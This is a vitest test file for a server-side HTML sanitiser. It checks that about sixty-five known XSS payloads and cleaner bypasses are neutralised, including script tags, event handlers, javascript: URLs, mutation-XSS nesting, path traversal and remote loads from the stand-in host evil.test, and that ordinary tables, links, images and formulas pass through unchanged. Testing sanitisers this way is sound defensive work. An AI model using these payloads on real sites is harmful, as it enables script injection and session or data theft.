import { expect, test } from 'vitest'
import { cleanHtml } from '#src/server/fields/clean-html.server.ts'

// Payloads from the OWASP cheat sheet, the DOMPurify and Cure53 collections, and known bypasses of HTML cleaners.
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/storage/a.png" onerror="alert(1)" onload=alert(1)>',
  '<img/src="/storage/a.png"/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="/storage/../adminApi/leave">',
  '<img src="/storage/%2e%2e/adminApi/leave">',
  '<img src="//evil.test/storage/a.png">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="/storage/a.png" srcset="https://evil.test/a 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:999">x</p>',
  '<p style="text-align:center;background:url(https://evil.test)">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<style>@import "https://evil.test"</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=p><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<p id="main" name="x" class="fixed">x</p>',
  '<p data-tip="x" aria-label="y" contenteditable tabindex=1>x</p>',
  '<span data-formula="x" onclick="alert(1)" style="color:red">x</span>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<a href="https://ok.test" target="_top" rel="opener" ping="https://evil.test">x</a>',
  '<p onclick="alert(1)">x',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '"><script>alert(1)</script>',
  '<<p>script>alert(1)<</p>/script>',
]

const allowed = new RegExp(
  [
    '^(',
    [
      '[^<>]',
      '</?(p|h[2-4]|strong|em|u|s|sub|sup|code|pre|blockquote|ul|li|tr|table|thead|tbody|th|td|ol|br|hr)( /)?>',
    ].join('|'),
    '|<p style="text-align:center">',
    '|<a href="https://ok\\.test" rel="noopener noreferrer" target="_blank">|</a>',
    '|<img src="/storage/a\\.png" alt="" />',
    '|<span data-formula="x">|</span>',
    ')*$',
  ].join(''),
)

test.each(attacks)('%s leaves nothing that acts', (html) => {
  const cleaned = cleanHtml(html)
  expect(cleaned).toMatch(allowed)
  expect(cleanHtml(cleaned)).toBe(cleaned)
})

test.each([
  [
    'a table',
    '<table><tbody><tr><th colspan="2"><p>Head</p></th></tr><tr><td rowspan="3" style="text-align:right"><p>1</p></td></tr></tbody></table>',
  ],
  ['a picture', '<img src="/storage/default/20260901/a.png" alt="A map" width="300" height="200" />'],
  [
    'a formula',
    '<p><span data-formula="\\frac{1}{2} &lt; x &amp; y" data-display="block">\\frac{1}{2} &lt; x &amp; y</span></p>',
  ],
  ['a list', '<ol start="3"><li><p>a</p><ul><li><p>b</p></li></ul></li></ol>'],
  [
    'links',
    '<p><a href="https://a.test/?x=1&amp;y=2" rel="noopener noreferrer" target="_blank">a</a><a href="mailto:a@b.test">b</a><a href="/admin">c</a></p>',
  ],
  [
    'marks',
    '<h2>1</h2><h3>2</h3><h4>3</h4><blockquote><p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code></p></blockquote><pre><code>x &lt; y</code></pre><hr />',
  ],
  ['plain text', 'a &lt; b &amp; c'],
])('%s stays as it is', (_what, html) => {
  expect(cleanHtml(html)).toBe(html)
})

test('what other editors write becomes what ours writes', () => {
  expect(cleanHtml('<h1>a</h1><b>b</b><i>c</i><div>d</div><font color=red>e</font><h6>f</h6>')).toBe(
    '<h2>a</h2><strong>b</strong><em>c</em>de<h4>f</h4>',
  )
})

test('an element of a thousand levels, or of a megabyte of attributes, costs nothing', () => {
  expect(cleanHtml('<blockquote>'.repeat(5000)).length).toBeLessThan(20_000)
  expect(cleanHtml(`<p ${'a=1 '.repeat(250_000)}>x</p>`)).toBe('<p>x</p>')
})
